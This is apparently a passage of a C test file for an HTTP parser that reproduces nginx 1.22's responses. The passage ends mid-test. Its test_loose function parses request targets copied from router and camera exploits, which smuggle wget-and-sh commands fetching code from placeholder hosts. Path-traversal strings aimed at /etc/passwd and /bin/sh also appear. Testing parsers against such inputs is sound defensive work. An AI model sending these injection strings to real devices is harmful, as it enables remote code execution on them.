/*
 * test_http_parse.c - the HTTP/1.x parser, response writer and view builder.
 *
 * Most tests drive the parser the way src/proto/http.c does: an input buffer
 * that grows as bytes "arrive" (in pieces of a given size), hp_http_parse()
 * called until it stops returning DONE, the used bytes dropped after every
 * call.  A request must parse the same whatever the piece size.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "proto/http_parse.h"
#include "cpu_time.h"

/* ---- harness ------------------------------------------------------------- */

#define MAXREQ 8

/* What we remember of each parsed request (pointers die at the next call). */
struct got {
    int n;                  /* requests parsed */
    int error;              /* status of an ERROR, 0 if none */
    char method[MAXREQ][32], target[MAXREQ][256], version[MAXREQ][16];
    char body[MAXREQ][4096];
    size_t body_n[MAXREQ], raw_len[MAXREQ], nheaders[MAXREQ];
    uint64_t body_len[MAXREQ];
    bool keep_alive[MAXREQ], chunked[MAXREQ], truncated[MAXREQ], cont[MAXREQ];
    int major[MAXREQ], minor[MAXREQ], nginx_status[MAXREQ];
    int need_more_used;     /* NEED_MORE calls that consumed bytes */
    size_t left;            /* bytes left unconsumed at the end */
};

static void copy_bytes(char *dst, size_t cap, struct hp_bytes b)
{
    size_t n = b.n < cap - 1 ? b.n : cap - 1;
    memcpy(dst, b.p, n);
    dst[n] = '\0';
}

static void remember(struct got *g, const struct hp_http_req *r)
{
    int i = g->n++;
    assert_true(i < MAXREQ);
    copy_bytes(g->method[i], sizeof(g->method[i]), r->method);
    copy_bytes(g->target[i], sizeof(g->target[i]), r->target);
    copy_bytes(g->version[i], sizeof(g->version[i]), r->version);
    assert_true(r->body.n <= sizeof(g->body[i]));
    if (r->body.n)
        memcpy(g->body[i], r->body.p, r->body.n);
    g->body_n[i] = r->body.n;
    g->body_len[i] = r->body_len;
    g->raw_len[i] = r->raw_len;
    g->nheaders[i] = r->nheaders;
    g->keep_alive[i] = r->keep_alive;
    g->chunked[i] = r->chunked;
    g->truncated[i] = r->body_truncated;
    g->cont[i] = r->expect_continue;
    g->major[i] = r->major;
    g->minor[i] = r->minor;
    g->nginx_status[i] = r->nginx_status;
    assert_true(r->head_len <= r->raw_len);
    assert_true(r->body_len >= r->body.n);
}

/* Feed in pieces of 'piece' bytes (0: all at once) with a parser keeping max_body. */
static void feed(const void *in, size_t len, size_t piece, size_t max_body, struct got *g)
{
    struct hp_http_parser *p = hp_http_parser_new(max_body);
    struct hp_http_req *req = malloc(sizeof(*req));
    uint8_t *buf = malloc(len + 1);
    size_t have = 0, off = 0;
    assert_non_null(p);
    memset(g, 0, sizeof(*g));
    while (off < len && !g->error) {
        size_t n = piece && piece < len - off ? piece : len - off;
        memcpy(buf + have, (const uint8_t *)in + off, n);
        have += n;
        off += n;
        for (;;) {
            int status = -1;
            size_t used = 99999999;
            enum hp_http_status st = hp_http_parse(p, buf, have, req, &status, &used);
            assert_true(used <= have);
            if (st == HP_HTTP_DONE)
                remember(g, req);
            if (st == HP_HTTP_ERROR) {
                assert_int_equal(used, have);
                g->error = status;
            }
            if (st == HP_HTTP_NEED_MORE && used)
                g->need_more_used++;
            memmove(buf, buf + used, have - used);
            have -= used;
            if (st != HP_HTTP_DONE || have == 0)
                break;
        }
    }
    g->left = have;
    free(buf);
    free(req);
    hp_http_parser_free(p);
}

static void feed_str(const char *s, struct got *g)
{
    feed(s, strlen(s), 0, 4096, g);
}

/* Parse with every piece size 1..len: the result must not depend on the cuts. */
static void feed_all_splits(const char *s, size_t max_body, struct got *ref)
{
    size_t len = strlen(s);
    struct got *g = malloc(sizeof(*g));
    feed(s, len, 0, max_body, ref);
    for (size_t piece = 1; piece <= len; piece++) {
        feed(s, len, piece, max_body, g);
        assert_int_equal(g->n, ref->n);
        assert_int_equal(g->error, ref->error);
        for (int i = 0; i < g->n; i++) {
            assert_int_equal(g->body_n[i], ref->body_n[i]);
            assert_memory_equal(g->body[i], ref->body[i], g->body_n[i]);
            assert_int_equal(g->raw_len[i], ref->raw_len[i]);
            assert_string_equal(g->target[i], ref->target[i]);
            assert_int_equal(g->nheaders[i], ref->nheaders[i]);
        }
    }
    free(g);
}

static int error_of(const char *s)
{
    struct got g;
    feed_str(s, &g);
    return g.error;
}

/* ---- requests ------------------------------------------------------------ */

static void test_simple_get(void **state)
{
    const char *s = "GET /index.html?a=1 HTTP/1.1\r\nHost: example.com\r\nUser-Agent:  curl/7.88.1 \r\n"
                    "Accept: */*\r\n\r\n";
    struct hp_http_parser *p = hp_http_parser_new(1024);
    struct hp_http_req req;
    int status;
    size_t used;
    assert_int_equal(hp_http_parse(p, (const uint8_t *)s, strlen(s), &req, &status, &used), HP_HTTP_DONE);
    assert_int_equal(used, strlen(s));
    assert_int_equal(req.raw_len, strlen(s));
    assert_int_equal(req.head_len, strlen(s));
    assert_int_equal(req.nheaders, 3);
    assert_memory_equal(req.method.p, "GET", 3);
    assert_int_equal(req.target.n, strlen("/index.html?a=1"));
    assert_memory_equal(req.version.p, "HTTP/1.1", 8);
    assert_int_equal(req.major, 1);
    assert_int_equal(req.minor, 1);
    assert_int_equal(req.headers[1].value.n, strlen("curl/7.88.1"));
    assert_memory_equal(req.headers[1].value.p, "curl/7.88.1", 11);
    assert_true(req.keep_alive);
    assert_false(req.chunked);
    assert_int_equal(req.body.n, 0);
    assert_int_equal(req.nginx_status, 0);
    /* Every prefix is NEED_MORE with nothing consumed. */
    for (size_t n = 0; n < strlen(s); n++) {
        assert_int_equal(hp_http_parse(p, (const uint8_t *)s, n, &req, &status, &used), HP_HTTP_NEED_MORE);
        assert_int_equal(used, 0);
    }
    hp_http_parser_free(p);
}

static void test_lf_only_and_leading_blank_lines(void **state)
{
    struct got g;
    feed_str("\r\n\n\r\nPOST /x HTTP/1.0\nHost: a\nContent-Length: 3\n\nabc", &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.error, 0);
    assert_string_equal(g.method[0], "POST");
    assert_int_equal(g.body_n[0], 3);
    assert_memory_equal(g.body[0], "abc", 3);
    assert_int_equal(g.raw_len[0], strlen("\r\n\n\r\nPOST /x HTTP/1.0\nHost: a\nContent-Length: 3\n\nabc"));
    assert_false(g.keep_alive[0]);
}

static void test_pipelined(void **state)
{
    const char *s = "GET /1 HTTP/1.1\r\nHost: a\r\n\r\n"
                    "POST /2 HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello"
                    "GET /3 HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n";
    struct got g;
    feed_all_splits(s, 4096, &g);
    assert_int_equal(g.n, 3);
    assert_string_equal(g.target[0], "/1");
    assert_string_equal(g.target[1], "/2");
    assert_string_equal(g.target[2], "/3");
    assert_memory_equal(g.body[1], "hello", 5);
    assert_true(g.keep_alive[0]);
    assert_false(g.keep_alive[2]);
    assert_int_equal(g.raw_len[0] + g.raw_len[1] + g.raw_len[2], strlen(s));
    assert_int_equal(g.left, 0);
}

static void test_keep_alive_rules(void **state)
{
    struct got g;
    feed_str("GET / HTTP/1.0\r\n\r\n", &g);
    assert_false(g.keep_alive[0]);
    feed_str("GET / HTTP/1.0\r\nConnection: Keep-Alive\r\n\r\n", &g);
    assert_true(g.keep_alive[0]);
    feed_str("GET / HTTP/1.1\r\nHost: h\r\n\r\n", &g);
    assert_true(g.keep_alive[0]);
    feed_str("GET / HTTP/1.1\r\nHost: h\r\nConnection: Close\r\n\r\n", &g);
    assert_false(g.keep_alive[0]);
    feed_str("GET / HTTP/1.1\r\nHost: h\r\nConnection: keep-alive, close\r\n\r\n", &g);
    assert_false(g.keep_alive[0]);
    feed_str("GET /\r\n", &g);
    assert_false(g.keep_alive[0]);
}

static void test_http09(void **state)
{
    struct got g;
    feed_str("GET /robots.txt\r\n", &g);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.version[0], "");
    assert_int_equal(g.major[0], 0);
    assert_int_equal(g.minor[0], 9);
    assert_string_equal(g.target[0], "/robots.txt");
    assert_int_equal(error_of("POST /\r\n"), 400);
    assert_int_equal(error_of("GET\r\n"), 400);
}

static void test_chunked(void **state)
{
    const char *s = "POST /cgi-bin/x HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: Chunked\r\n\r\n"
                    "5;name=value\r\nhello\r\n"
                    "7 ; ext=\"q\"\r\n, world\r\n"
                    "1\nX\n"
                    "0\r\nX-Trailer: 1\r\nOther: 2\r\n\r\n"
                    "GET /next HTTP/1.1\r\nHost: h\r\n\r\n";
    struct got g;
    feed_all_splits(s, 4096, &g);
    assert_int_equal(g.n, 2);
    assert_true(g.chunked[0]);
    assert_int_equal(g.body_n[0], 13);
    assert_memory_equal(g.body[0], "hello, worldX", 13);
    assert_int_equal(g.body_len[0], 13);
    assert_string_equal(g.target[1], "/next");
    assert_int_equal(g.raw_len[0] + g.raw_len[1], strlen(s));
    /* Kept prefix only, when max_body is small. */
    feed(s, strlen(s), 3, 4, &g);
    assert_int_equal(g.body_n[0], 4);
    assert_memory_equal(g.body[0], "hell", 4);
    assert_int_equal(g.body_len[0], 13);
    assert_true(g.truncated[0]);
}

static void test_chunked_errors(void **state)
{
    const char *h = "POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n";
    char s[512];
    snprintf(s, sizeof(s), "%sz\r\n", h);
    assert_int_equal(error_of(s), 400);
    snprintf(s, sizeof(s), "%s5\r\nhelloXX", h);
    assert_int_equal(error_of(s), 400);
    snprintf(s, sizeof(s), "%s10000000000000000\r\n", h);
    assert_int_equal(error_of(s), 400);
    snprintf(s, sizeof(s), "%s4000001\r\n", h);
    assert_int_equal(error_of(s), 413);
    snprintf(s, sizeof(s), "%s5x\r\n", h);
    assert_int_equal(error_of(s), 400);
}

static void test_big_body(void **state)
{
    size_t n = 200000;
    char head[128];
    int hl = snprintf(head, sizeof(head), "POST /upload HTTP/1.1\r\nHost: h\r\nExpect: 100-continue\r\n"
                                          "Content-Length: %zu\r\n\r\n", n);
    uint8_t *in = malloc((size_t)hl + n + 64);
    memcpy(in, head, (size_t)hl);
    for (size_t i = 0; i < n; i++)
        in[hl + i] = (uint8_t)('a' + i % 26);
    static const char after[] = "GET /after HTTP/1.1\r\nHost: h\r\n\r\n";
    memcpy(in + hl + n, after, sizeof(after) - 1);
    size_t total = (size_t)hl + n + sizeof(after) - 1;

    struct hp_http_parser *p = hp_http_parser_new(100);
    struct hp_http_req req;
    int status;
    size_t used, off = 0;
    /* Head alone: absorbed, the parser asks for the body and a 100 Continue. */
    assert_int_equal(hp_http_parse(p, in, (size_t)hl, &req, &status, &used), HP_HTTP_NEED_MORE);
    assert_int_equal(used, (size_t)hl);
    assert_true(hp_http_parser_want_continue(p));
    assert_false(hp_http_parser_want_continue(p));
    assert_non_null(hp_http_parser_pending(p));
    off = used;
    int pieces = 0;
    for (;;) {
        size_t len = total - off < 4096 ? total - off : 4096;
        enum hp_http_status st = hp_http_parse(p, in + off, len, &req, &status, &used);
        off += used;
        pieces++;
        if (st == HP_HTTP_DONE)
            break;
        assert_int_equal(st, HP_HTTP_NEED_MORE);
        assert_int_equal(used, len);
    }
    assert_true(pieces > 40);
    assert_int_equal(req.body.n, 100);
    assert_memory_equal(req.body.p, in + hl, 100);
    assert_int_equal(req.body_len, n);
    assert_true(req.body_truncated);
    assert_true(req.expect_continue);
    assert_int_equal(req.raw_len, (size_t)hl + n);
    assert_int_equal(req.nheaders, 3);
    assert_memory_equal(req.target.p, "/upload", 7);
    assert_null(hp_http_parser_pending(p));
    assert_int_equal(hp_http_parse(p, in + off, total - off, &req, &status, &used), HP_HTTP_DONE);
    assert_memory_equal(req.target.p, "/after", 6);
    assert_int_equal(off + used, total);
    hp_http_parser_free(p);
    free(in);
}

static void test_error_statuses(void **state)
{
    /* 400: syntax */
    assert_int_equal(error_of("GET / HTTP/1.1\r\nHost: h\r\n folded\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/1.1\r\nBad Name: x\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/1.1\r\n: empty\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / http/1.1\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/1.1000\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/1\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/1.1 x\r\n\r\n"), 400);
    assert_int_equal(error_of("GET /a\x01 HTTP/1.1\r\n\r\n"), 400);
    assert_int_equal(error_of("G(T / HTTP/1.1\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/1.1\r\nA: b\rc\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length: 1x\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length: -1\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length:\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length: 99999999999999999999999\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length: 1\r\nContent-Length: 1\r\n\r\nx"), 400);
    assert_int_equal(error_of("GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n"), 400);
    /* the rest */
    assert_int_equal(error_of("POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 67108865\r\n\r\n"), 413);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: gzip, chunked\r\n\r\n"), 501);
    assert_int_equal(error_of("GET / HTTP/2.0\r\n\r\n"), 505);
    assert_int_equal(error_of("GET / HTTP/10.1\r\n\r\n"), 505);
    /* nginx refuses the target (or method) before it reads the version (Debian's nginx 1.22) */
    assert_int_equal(error_of("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), 400);
    assert_int_equal(error_of("get / HTTP/2.0\r\n\r\n"), 400);
    assert_int_equal(error_of("GET index.html HTTP/2.0\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/3.0\r\n\r\n"), 505);

    char *s = malloc(HP_HTTP_URI_MAX + 64);
    memcpy(s, "GET /", 5);
    memset(s + 5, 'a', HP_HTTP_URI_MAX);
    strcpy(s + 5 + HP_HTTP_URI_MAX, " HTTP/1.1\r\n\r\n");
    assert_int_equal(error_of(s), 414);
    s[5 + HP_HTTP_URI_MAX] = '\0';  /* no end of line yet: known as soon as seen */
    assert_int_equal(error_of(s), 414);
    free(s);
}

static void test_absurd_inputs(void **state)
{
    /* Binary junk: answered at once, not after 64 KiB. */
    static const uint8_t junk[] = { 0x16, 0x03, 0x01, 0x02, 0x00, 0x01, 0x00, 0x01, 0xfc, 0x03, 0x03 };
    struct got g;
    feed(junk, sizeof(junk), 0, 100, &g);
    assert_int_equal(g.error, 400);
    feed("\x00\x00\x00\x00", 4, 1, 100, &g);
    assert_int_equal(g.error, 400);
    feed("SSH-2.0-OpenSSH_8.9\r\n", 21, 0, 100, &g);
    assert_int_equal(g.error, 400);

    /* 100 KB of headers -> 400 "Request Header Or Cookie Too Large" (nginx's 494),
     * whether it arrives at once or in pieces. */
    size_t n = 100 * 1024;
    char *s = malloc(n + 1);
    size_t o = (size_t)sprintf(s, "GET / HTTP/1.1\r\nHost: h\r\n");
    while (o + 40 < n)
        o += (size_t)sprintf(s + o, "X-Pad-%06zu: %020zu\r\n", o, o);
    s[o] = '\0';
    feed(s, o, 0, 100, &g);
    assert_int_equal(g.error, HP_HTTP_HEADER_TOO_LARGE);
    feed(s, o, 1000, 100, &g);
    assert_int_equal(g.error, HP_HTTP_HEADER_TOO_LARGE);
    feed(s, o, 7, 100, &g);
    assert_int_equal(g.error, HP_HTTP_HEADER_TOO_LARGE);
    /* One endless header line, trickled. */
    memset(s, 'A', n);
    memcpy(s, "GET / HTTP/1.1\r\nX: ", 19);
    feed(s, n, 3, 100, &g);
    assert_int_equal(g.error, HP_HTTP_HEADER_TOO_LARGE);
    free(s);
}

static bool bytes_is(struct hp_bytes b, const char *s)
{
    return b.n == strlen(s) && memcmp(b.p, s, b.n) == 0;
}

/* A refused request split loosely for its classification (hp_http_parse_loose). */
static void test_loose(void **state)
{
    struct hp_http_req r;
    /* blanks in the target, as exploits for boa and GoAhead send them */
    const char *a = "\r\nGET /login.cgi?cli=aa aa';wget http://192.0.2.9/x -O -> /tmp/r;sh /tmp/r'$  HTTP/1.1\r\n"
                    "Host: x\r\nno colon here\r\n  User-Agent :  Hello, world \r\n\r\nbody bytes";
    assert_true(hp_http_parse_loose((const uint8_t *)a, strlen(a), &r));
    assert_true(bytes_is(r.method, "GET"));
    assert_true(bytes_is(r.target, "/login.cgi?cli=aa aa';wget http://192.0.2.9/x -O -> /tmp/r;sh /tmp/r'$"));
    assert_true(bytes_is(r.version, "HTTP/1.1"));
    assert_int_equal(r.major, 1);
    assert_int_equal(r.minor, 1);
    assert_int_equal(r.nheaders, 2);                     /* the line without ':' skipped */
    assert_true(bytes_is(r.headers[0].name, "Host") && bytes_is(r.headers[0].value, "x"));
    assert_true(bytes_is(r.headers[1].name, "User-Agent") && bytes_is(r.headers[1].value, "Hello, world"));
    assert_true(bytes_is(r.body, "body bytes"));
    assert_int_equal(r.head_len + r.body.n, strlen(a));
    /* no version: the whole rest of the line is the target; LF alone ends lines */
    const char *b = "GET /shell?cd /tmp;wget http://192.0.2.10/jaws;sh jaws\nX: 1\n";
    assert_true(hp_http_parse_loose((const uint8_t *)b, strlen(b), &r));
    assert_true(bytes_is(r.target, "/shell?cd /tmp;wget http://192.0.2.10/jaws;sh jaws"));
    assert_int_equal(r.version.n, 0);
    assert_int_equal(r.nheaders, 1);
    assert_int_equal(r.body.n, 0);
    /* "HTTP/x.y" alone is the target, not a version of nothing */
    assert_true(hp_http_parse_loose((const uint8_t *)"GET HTTP/1.1", 12, &r));
    assert_true(bytes_is(r.target, "HTTP/1.1") && r.version.n == 0);
    /* nothing to split: no blank after the method, no target, an over-long method, empty */
    assert_false(hp_http_parse_loose((const uint8_t *)"GARBAGE\r\n\r\n", 11, &r));
    assert_false(hp_http_parse_loose((const uint8_t *)"GET    \r\n", 9, &r));
    assert_false(hp_http_parse_loose((const uint8_t *)" /x HTTP/1.1\r\n", 14, &r));
    char longm[64];
    memset(longm, 'A', 40);
    memcpy(longm + 40, " /x HTTP/1.1\r\n", 14);
    assert_false(hp_http_parse_loose((const uint8_t *)longm, 54, &r));
    assert_false(hp_http_parse_loose((const uint8_t *)"\x16\x03\x01 /x HTTP/1.1\r\n", 17, &r));
    assert_false(hp_http_parse_loose((const uint8_t *)"GE\0T /x HTTP/1.1\r\n", 18, &r));
    assert_false(hp_http_parse_loose((const uint8_t *)"\r\n\r\n", 4, &r));
    assert_false(hp_http_parse_loose((const uint8_t *)"", 0, &r));
    /* every prefix of a request, from an allocation of exactly its size: nothing read past it */
    size_t n = strlen(a);
    for (size_t k = 0; k <= n; k++) {
        uint8_t *cut = malloc(k ? k : 1);
        memcpy(cut, a, k);
        if (hp_http_parse_loose(cut, k, &r)) {
            assert_true(r.target.p >= cut && r.target.p + r.target.n <= cut + k);
            assert_true(r.body.n == 0 || (r.body.p >= cut && r.body.p + r.body.n <= cut + k));
            assert_int_equal(r.head_len + r.body.n, k);
        }
        free(cut);
    }
}

/* A head trickled byte by byte is validated as it comes (resumed, not re-parsed). */
static void test_trickled_head(void **state)
{
    const char *bad = "GET / HTTP/1.1\r\nHost: h\r\nX-A: 1\r\nBad Name: x";
    struct got g;
    feed(bad, strlen(bad), 1, 100, &g);
    assert_int_equal(g.error, 400);
    const char *nul = "GET / HTTP/1.1\r\nHost: h\r\nX-A: 1\0";
    feed(nul, strlen(nul) + 1, 1, 100, &g);
    assert_int_equal(g.error, 400);
    feed_all_splits("GET /t HTTP/1.1\r\nHost: h\r\nA: 1\r\nB:\r\nC:  3  \r\n\r\n", 100, &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.nheaders[0], 4);
}

/* CPU seconds to feed s byte by byte. */
static double trickle_cpu(const char *s, size_t n, struct got *g)
{
    double t0 = test_cpu_s();
    feed(s, n, 1, 100, g);
    return test_cpu_s() - t0;
}

/* Trickled, a head costs the parser O(its length), not O(length) per byte:
 * 60 KB of empty lines before the request line, or one 60 KB header name,
 * each took seconds of CPU when every read re-validated them from their
 * start (the time is generous: a sanitizer build is slower). */
static void test_trickled_cost(void **state)
{
    size_t big = 60000;
    char *s = malloc(big + 128);
    struct got g;
    for (size_t i = 0; i < big; i += 2)
        memcpy(s + i, "\r\n", 2);
    strcpy(s + big, "GET / HTTP/1.0\r\n\r\n");
    assert_true(trickle_cpu(s, strlen(s), &g) < 1.0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.error, 0);
    size_t o = (size_t)sprintf(s, "GET / HTTP/1.1\r\nHost: h\r\nX");
    memset(s + o, 'n', big);
    strcpy(s + o + big, ": v\r\n\r\n");
    assert_true(trickle_cpu(s, strlen(s), &g) < 1.0);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.nheaders[0], 2);
    /* A bad byte in such a line is still answered as soon as it comes. */
    s[o + big] = ' ';
    s[o + big + 1] = '\0';
    feed(s, strlen(s), 1, 100, &g);
    assert_int_equal(g.error, 400);
    /* A request line made long by blanks is 414 (as nginx says) once it
     * passes any valid one's length, whatever the pieces. */
    memcpy(s, "GET", 3);
    memset(s + 3, ' ', big);
    strcpy(s + 3 + big, "/ HTTP/1.1\r\n\r\n");
    assert_true(trickle_cpu(s, strlen(s), &g) < 1.0);
    assert_int_equal(g.error, 414);
    feed(s, strlen(s), 0, 100, &g);
    assert_int_equal(g.error, 414);
    free(s);
}

static void test_many_headers(void **state)
{
    char *s = malloc(16384);
    size_t o = (size_t)sprintf(s, "GET / HTTP/1.1\r\n");
    for (int i = 0; i < 150; i++)
        o += (size_t)sprintf(s + o, "H%d: v\r\n", i);
    o += (size_t)sprintf(s + o, "Content-Length: 2\r\n\r\nokGET /2 HTTP/1.0\r\n\r\n");
    struct hp_http_parser *p = hp_http_parser_new(100);
    struct hp_http_req req;
    int status;
    size_t used;
    assert_int_equal(hp_http_parse(p, (uint8_t *)s, o, &req, &status, &used), HP_HTTP_DONE);
    assert_int_equal(req.nheaders, HP_HTTP_MAX_HEADERS);
    assert_true(req.headers_truncated);
    /* Framing headers past the limit still count. */
    assert_int_equal(req.body.n, 2);
    assert_int_equal(req.nginx_status, 400);  /* 1.1 without Host */
    hp_http_parser_free(p);
    free(s);
}

/* The path nginx looks up, or its 400: each row as Debian's nginx 1.22 answered it (a 400, or
 * the page the resolved path names). */
static void test_ngx_path(void **state)
{
    static const struct { const char *in, *out; } cases[] = {
        { "/../../etc/passwd", NULL }, { "/..", NULL }, { "/a/../..", NULL }, { "//..", NULL },
        { "/a//../..", NULL }, { "/a/b/../../../x", NULL },
        { "/%2e%2e/%2e%2e/etc/passwd", NULL }, { "/%2E%2E/x", NULL }, { "/.%2e/x", NULL },
        { "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", NULL }, { "/a%2f..%2f..%2fx", NULL },
        { "/%00", NULL }, { "/a%00b", NULL }, { "/%zz", NULL }, { "/%4", NULL }, { "/%", NULL },
        { "/a/..", "/" }, { "/%2e", "/" }, { "/a/%2e%2e", "/" }, { "/index.html/..", "/" },
        { "/a/./../b", "/b" }, { "/a/.", "/a/" }, { "/.../x", "/.../x" }, { "/..;/x", "/..;/x" },
        { "/%252e%252e/x", "/%2e%2e/x" }, { "/x%25", "/x%" }, { "/a#/../../x", "/a" },
        { "/a\\..\\..\\x", "/a\\..\\..\\x" }, { "", "/" }, { "//a///b/", "/a/b/" }, { "/", "/" },
        { "/a/b/c/../../d", "/a/d" }, { "/%41%2f%42", "/A/B" },
    };
    uint8_t out[128];
    size_t n;
    for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
        bool ok = hp_http_ngx_path((const uint8_t *)cases[i].in, strlen(cases[i].in), out, &n);
        if (!cases[i].out) {
            if (ok)
                fail_msg("%s: resolved to %.*s, nginx says 400", cases[i].in, (int)n, out);
            continue;
        }
        if (!ok || n != strlen(cases[i].out) || memcmp(out, cases[i].out, n) != 0)
            fail_msg("%s: got %s %.*s, want %s", cases[i].in, ok ? "" : "400", ok ? (int)n : 0, out, cases[i].out);
    }
    struct got g;
    feed_str("GET /../../etc/passwd HTTP/1.1\r\nHost: h\r\n\r\n", &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.nginx_status[0], 400);
    feed_str("GET /a/../x?q=/../../.. HTTP/1.1\r\nHost: h\r\n\r\n", &g);
    assert_int_equal(g.nginx_status[0], 0);
}

static void test_nginx_status(void **state)
{
    struct got g;
    /* nginx 1.22's answers (checked against Debian's nginx): CONNECT host:port is no URI to it */
    feed_str("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n", &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.nginx_status[0], 400);
    assert_string_equal(g.target[0], "example.com:443");
    feed_str("CONNECT http://example.com/ HTTP/1.1\r\nHost: example.com\r\n\r\n", &g);
    assert_int_equal(g.nginx_status[0], 405);
    feed_str("TRACE / HTTP/1.1\r\nHost: h\r\n\r\n", &g);
    assert_int_equal(g.nginx_status[0], 405);
    feed_str("GET / HTTP/1.0\r\n\r\n", &g);
    assert_int_equal(g.nginx_status[0], 0);
    /* Odd but legal: lower-case token method, high bytes in the target. */
    feed_str("get /\xc3\xa9t\xe9 HTTP/1.1\r\nHost: h\r\nX_Under: 1\r\n\r\n", &g);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.target[0], "/\xc3\xa9t\xe9");
    assert_int_equal(g.nheaders[0], 2);
    /* TRACE without Host: nginx refuses the missing Host first. */
    feed_str("TRACE / HTTP/1.1\r\n\r\n", &g);
    assert_int_equal(g.nginx_status[0], 400);
}

/* What Debian's nginx 1.22 answers to absurd heads (tests/integration
 * cases_http.py, _nginx_probes, compares the same on the wire). */
static void test_nginx_grammar(void **state)
{
    struct got g;
    /* versions: the minor is checked before each digit is added, the major wants 1-9 first */
    feed_str("GET / HTTP/1.999\r\nHost: h\r\n\r\n", &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.minor[0], 999);
    assert_int_equal(error_of("GET / HTTP/01.1\r\nHost: h\r\n\r\n"), 400);
    assert_int_equal(error_of("GET / HTTP/0.9\r\n\r\n"), 400);
    /* a method of any length */
    char line[200];
    snprintf(line, sizeof(line), "%.*s / HTTP/1.1\r\nHost: h\r\n\r\n", 100,
             "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA");
    feed_str(line, &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(strlen(g.method[0]), 31);    /* what struct got keeps of it */
    /* a header name alone is a header with an empty value */
    feed_str("GET / HTTP/1.1\r\nHost: h\r\nX-A\r\n\r\n", &g);
    assert_int_equal(g.n, 1);
    assert_int_equal(g.nheaders[0], 2);
    assert_int_equal(g.nginx_status[0], 0);
    /* a header line ends at LF after any run of CRs; a CR before anything else is 400 */
    feed_all_splits("GET / HTTP/1.1\r\nHost: h\r\r\nX-A\r\r\r\n\r\nGET /b HTTP/1.1\r\nHost: h\r\n\r\n", 4096, &g);
    assert_int_equal(g.n, 2);
    assert_int_equal(g.nheaders[0], 2);
    assert_int_equal(g.nginx_status[0], 0);
    feed_all_splits("GET / HTTP/1.1\r\nHost: h\r\nA: b\r\r\rc\r\n\r\n", 4096, &g);
    assert_int_equal(g.error, 400);
    feed_all_splits("GET / HTTP/1.1\r\nHost: h\r\nA\r\rb: 1\r\n\r\n", 4096, &g);
    assert_int_equal(g.error, 400);
    assert_int_equal(error_of("GET / HTTP/1.1\r\nHost: h\r\n\r\r\n"), 400);
    /* only SP is trimmed around a value; Content-Length is an off_t */
    assert_int_equal(error_of("POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 3\t\r\n\r\nabc"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 9223372036854775807\r\n\r\n"), 413);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 9223372036854775808\r\n\r\n"), 400);
    /* without Host nginx answers 400 before it reads the framing */
    assert_int_equal(error_of("POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n"), 400);
    assert_int_equal(error_of("POST / HTTP/1.1\r\nContent-Length: 9223372036854775807\r\n\r\n"), 400);
    /* Host values ngx_http_validate_host refuses, and absolute URIs its request line parser does */
    static const char *const bad[] = {
        "GET / HTTP/1.1\r\nHost: x/y\r\n\r\n", "GET / HTTP/1.1\r\nHost: \r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x..y\r\n\r\n", "GET / HTTP/1.1\r\nHost: :80\r\n\r\n",
        "GET / HTTP/1.1\r\nHost: x y\r\n\r\n", "GET / HTTP/1.0\r\nHost: .\r\n\r\n",
        "GET http://u@x/ HTTP/1.1\r\nHost: h\r\n\r\n", "GET http://x#a HTTP/1.1\r\nHost: h\r\n\r\n",
        "GET http://x%20y/ HTTP/1.1\r\nHost: h\r\n\r\n", "GET http:/// HTTP/1.1\r\nHost: h\r\n\r\n",
        "GET http://x\r\n",
    };
    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
        feed_str(bad[i], &g);
